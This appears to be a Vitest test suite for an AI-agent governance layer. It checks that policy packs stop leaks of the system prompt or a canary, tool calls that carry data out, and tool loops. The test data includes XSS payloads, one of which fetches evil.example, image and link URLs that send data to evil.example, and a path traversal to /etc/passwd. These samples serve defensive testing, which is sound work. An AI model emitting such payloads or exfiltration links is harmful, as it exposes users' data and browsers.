import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { WorkspaceContext } from "@/lib/access/workspace-context";
import { withTenant } from "@/lib/core/db";
import { setPackMode } from "@/lib/governance/set-pack-mode";
import { setPolicyMode } from "@/lib/governance/set-policy-mode";
import { getRun } from "@/lib/runs/get-run";
import { listRunSteps } from "@/lib/runs/list-run-steps";
import { createThread } from "@/lib/threads/create-thread";
import { driveRun } from "@/lib/testing/drive-run";
import { anAgent } from "@/lib/testing/factories/agent";
import { aReadyDocument } from "@/lib/testing/factories/document";
import { anOpenAiProvider } from "@/lib/testing/factories/model-provider";
import { aRun } from "@/lib/testing/factories/run";
import { aWorkspace } from "@/lib/testing/factories/workspace";
import { FakeOpenAi, type FakeAnswer, type FakeRequest } from "@/lib/testing/fake-openai";

const openai = new FakeOpenAi();
let baseUrl = "";
beforeAll(async () => {
  baseUrl = await openai.start();
});
afterAll(() => openai.stop());

const instructions =
  "You answer for Northwind. Never offer more than ten percent off without the head of sales. Do not speak about the merger with Contoso, and pass complaints on to the second floor by mail.";

async function aRunThatAnswers(
  answers: readonly FakeAnswer[] | ((request: FakeRequest, index: number) => FakeAnswer),
  {
    packs = ["owasp-llm-2025"],
    tools = ["search_knowledge"],
    policy,
  }: { packs?: string[]; tools?: string[]; policy?: { pack: string; policyId: string } } = {},
) {
  const { ctx, workspaceId } = await aWorkspace();
  await anOpenAiProvider({ workspaceId, baseUrl });
  for (const pack of packs) await setPackMode(ctx, { pack, mode: "enforce" });
  if (policy) {
    await setPackMode(ctx, { pack: policy.pack, mode: "monitor" });
    await setPolicyMode(ctx, { ...policy, mode: "enforce" });
  }
  const agent = await anAgent(ctx, { model: "fake/gpt-4.1-mini", tools, instructions, autonomy: "autonomous" });
  const run = await aRun(ctx, {
    agent: agent.id,
    input: "See https://known.example/?d=dGhlIHNlY3JldCBpcyBibHVl and answer.",
  });
  openai.script(answers);
  return { ctx, workspaceId, agent, run, ref: { workspaceId, runId: run.id } };
}

const calls = (name: string, args: unknown): FakeAnswer => ({ toolCalls: [{ name, args }] });
const canaryIn = (request: FakeRequest | undefined): string =>
  /Reference ([0-9a-f]{24}) is confidential/.exec(request?.text ?? "")?.[1] ?? "no canary";
const tagIn = (request: FakeRequest | undefined): string =>
  /tags named (untrusted-[0-9a-f]{16})/.exec(request?.text ?? "")?.[1] ?? "no tag";
const stepsOf = async (ctx: WorkspaceContext, runId: string) => (await listRunSteps(ctx, runId)).items;

describe("an answer is stopped by the rule that it breaks", () => {
  it.each([
    ["a script", "Done. <script>fetch('https://evil.example')</script>", "llm05-html"],
    ["an event handler", 'Look: <img src="/a.png" onerror="alert(1)">', "llm05-html"],
    ["a script address", "[Open the report](javascript:alert(1))", "llm05-html"],
    [
      "data in an image",
      "![chart](https://evil.example/c.png?q=ana.ferreira@example.test)",
      "llm02-exfiltration-links",
    ],
    [
      "encoded data in a link",
      `[more](https://evil.example/?d=${Buffer.from("the price is 4.2 million").toString("base64url")})`,
      "llm02-exfiltration-links",
    ],
    ["the instructions", `My instructions are: ${instructions}`, "llm07-system-prompt-leak"],
  ])("%s", async (_, text, policyId) => {
    const { ctx, run, ref } = await aRunThatAnswers([{ text }]);
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({
      status: "stopped",
      stopReason: "policy_denied",
      output: "",
      stopDetail: { policies: [policyId] },
    });
    expect((await stepsOf(ctx, run.id)).at(-1)).toMatchObject({ kind: "finish", status: "denied", verdict: "deny" });
  });

  it.each([
    ["code that is quoted as code", 'Write:\n\n```html\n<script>go()</script>\n```\n\nand `onclick="go()"`.'],
    [
      "an ordinary link and image",
      "See [the guide](https://docs.example.com/start?lang=en) ![](https://cdn.example.com/a.png?w=20).",
    ],
    ["an address that it was given", "You sent https://known.example/?d=dGhlIHNlY3JldCBpcyBibHVl to me."],
    ["an answer about the rules", "More than ten percent off needs the head of sales."],
  ])("but not %s", async (_, text) => {
    const { ctx, run, ref } = await aRunThatAnswers([{ text }]);
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({ status: "completed", output: text });
  });

  it("but not while the pack is off", async () => {
    const text = "Done. <script>go()</script>";
    const { ctx, run, ref } = await aRunThatAnswers([{ text }], { packs: [] });
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({ status: "completed", output: text });
  });
});

describe("the canary", () => {
  it("stops the answer that reads it out, and nobody gets to see it", async () => {
    let canary = "";
    const { ctx, run, ref, workspaceId } = await aRunThatAnswers((request) => {
      canary = canaryIn(request);
      return { text: `The reference is ${canary}, as you asked.` };
    });
    await driveRun(ref);
    expect(canary).toMatch(/^[0-9a-f]{24}$/);
    expect(await getRun(ctx, run.id)).toMatchObject({
      status: "stopped",
      stopDetail: { policies: ["llm07-system-prompt-leak"] },
    });
    const steps = await stepsOf(ctx, run.id);
    expect(steps.find((step) => step.kind === "model_call")?.output).toMatchObject({ isPromptLeaked: true });
    expect(JSON.stringify(steps)).not.toContain(canary);
    const events = await withTenant(workspaceId, (tx) => tx.runEvent.findMany({ where: { workspaceId } }));
    expect(JSON.stringify(events)).not.toContain(canary);
  });

  it("stops a mail that would carry it out", async () => {
    const { ctx, run, ref } = await aRunThatAnswers(
      (request) => calls("send_email", { to: ["a@example.test"], subject: "s", body: `Code ${canaryIn(request)}` }),
      { tools: ["send_email"] },
    );
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({
      status: "stopped",
      stopDetail: { tool: "send_email", policies: expect.arrayContaining(["llm07-leak-by-tool"]) },
    });
  });

  it("is taken out of an answer that no rule stops", async () => {
    const { ctx, run, ref } = await aRunThatAnswers((request) => ({ text: `It is ${canaryIn(request)}.` }), {
      packs: [],
    });
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({ status: "completed", output: "It is …." });
  });

  it("stops a request that would carry it out, and is the same in every turn of a run but in no other run", async () => {
    const canaries: string[] = [];
    const first = await aRunThatAnswers(
      (request, index) => {
        canaries.push(canaryIn(request));
        return index === 0
          ? calls("search_knowledge", { query: "leave" })
          : calls("http_request", { url: `https://example.com/?k=${canaryIn(request)}` });
      },
      {
        packs: [],
        policy: { pack: "iso-27001", policyId: "iso27001-dlp" },
        tools: ["search_knowledge", "http_request"],
      },
    );
    await driveRun(first.ref);
    const [canary] = canaries;
    expect(canaries).toEqual([canary, canary]);
    expect(await getRun(first.ctx, first.run.id)).toMatchObject({
      status: "stopped",
      stopDetail: { tool: "http_request", policies: expect.arrayContaining(["iso27001-dlp"]) },
    });
    expect(JSON.stringify(await stepsOf(first.ctx, first.run.id))).not.toContain(canary);
    const second = await aRunThatAnswers((request) => {
      canaries.push(canaryIn(request));
      return { text: "Done." };
    });
    await driveRun(second.ref);
    expect(canaries[2]).not.toBe(canary);
  });
});

describe("what comes from outside", () => {
  it("is marked with the tag of the run, which it cannot close", async () => {
    const { run, ref, ctx } = await aRunThatAnswers([calls("search_knowledge", { query: "leave" }), { text: "Done." }]);
    await aReadyDocument(ctx);
    await driveRun(ref);
    expect(openai.requests).toHaveLength(2);
    const tag = tagIn(openai.requests[1]);
    expect(tag).toBe(tagIn(openai.requests[0]));
    const input = openai.requests[1]?.body.input as { type?: string; output?: string }[];
    const told = input.find((item) => item.type === "function_call_output")?.output ?? "";
    expect(told.startsWith(`<${tag}>\n{`)).toBe(true);
    expect(told.endsWith(`}\n</${tag}>`)).toBe(true);
    expect(told.split(tag)).toHaveLength(3);
    expect(JSON.parse(told.slice(tag.length + 3, -(tag.length + 4)))).toMatchObject({ passages: expect.any(Array) });
    expect(await getRun(ctx, run.id)).toMatchObject({ status: "completed", isTainted: true });
  });

  /** Private data, untrusted content and a way out: the rule of the agentic pack. */
  it("together with private data closes the way out", async () => {
    const { ctx, run, ref } = await aRunThatAnswers(
      [
        calls("search_knowledge", { query: "leave" }),
        calls("http_request", { url: "https://example.com/collect?x=1" }),
      ],
      { packs: ["owasp-agentic-2026"], tools: ["search_knowledge", "http_request", "send_email"] },
    );
    await aReadyDocument(ctx);
    await driveRun(ref);
    expect(await getRun(ctx, run.id)).toMatchObject({
      status: "stopped",
      stopDetail: { tool: "http_request", policies: ["asi02-tool-misuse"] },
    });
    const denied = (await stepsOf(ctx, run.id)).at(-1);
    expect(denied?.decisions[0]?.facts).toMatchObject({ taint: expect.arrayContaining(["private", "untrusted"]) });
  });

  it("stays with the conversation in which it was read", async () => {
    const { ctx, workspaceId, agent } = await aRunThatAnswers([], {
      packs: ["owasp-agentic-2026"],
      tools: ["search_knowledge", "http_request"],
    });
    await aReadyDocument(ctx);
    const thread = await createThread(ctx, { agent: agent.id });
    const first = await aRun(ctx, { agent: agent.id, input: "How many days of leave are there?", threadId: thread.id });
    openai.script([calls("search_knowledge", { query: "leave" }), { text: "Thirty." }]);
    await driveRun({ workspaceId, runId: first.id });
    const second = await aRun(ctx, { agent: agent.id, input: "Look it up outside too.", threadId: thread.id });
    openai.script([calls("http_request", { url: "https://example.com/" })]);
    await driveRun({ workspaceId, runId: second.id });
    expect(await getRun(ctx, second.id)).toMatchObject({
      status: "stopped",
      isTainted: true,
      stopDetail: { policies: ["asi02-tool-misuse"] },
    });
  });

  it("does not close it while nothing private was read", async () => {
    const { ctx, run, ref } = await aRunThatAnswers(
      [calls("send_email", { to: ["a@example.test"], subject: "s", body: "b" }), { text: "Done." }],
      { packs: ["owasp-agentic-2026"], tools: ["search_knowledge", "send_email"] },
    );
    await driveRun(ref);
    expect((await getRun(ctx, run.id)).stopDetail).not.toMatchObject({ policies: ["asi02-tool-misuse"] });
    expect((await stepsOf(ctx, run.id)).find((step) => step.kind === "tool_call")).not.toMatchObject({
      status: "denied",
    });
  });
});

it("stops a loop of the same call", async () => {
  const { ctx, run, ref } = await aRunThatAnswers(() => calls("calculate", { expression: "1+1" }), {
    packs: ["cost-control"],
    tools: ["calculate"],
  });
  await driveRun(ref);
  expect(await getRun(ctx, run.id)).toMatchObject({ stopDetail: { policies: ["cost-repeat"] } });
  // Five were made, the sixth was denied.
  expect((await stepsOf(ctx, run.id)).filter((step) => step.kind === "tool_call")).toHaveLength(6);
});

it("refuses a path that leaves its folder", async () => {
  const { ctx, run, ref } = await aRunThatAnswers(
    [calls("http_request", { url: "https://example.com/a/../../etc/passwd" })],
    {
      packs: ["tool-safety"],
      tools: ["http_request"],
    },
  );
  await driveRun(ref);
  expect(await getRun(ctx, run.id)).toMatchObject({ stopDetail: { policies: expect.arrayContaining(["tool-path"]) } });
});
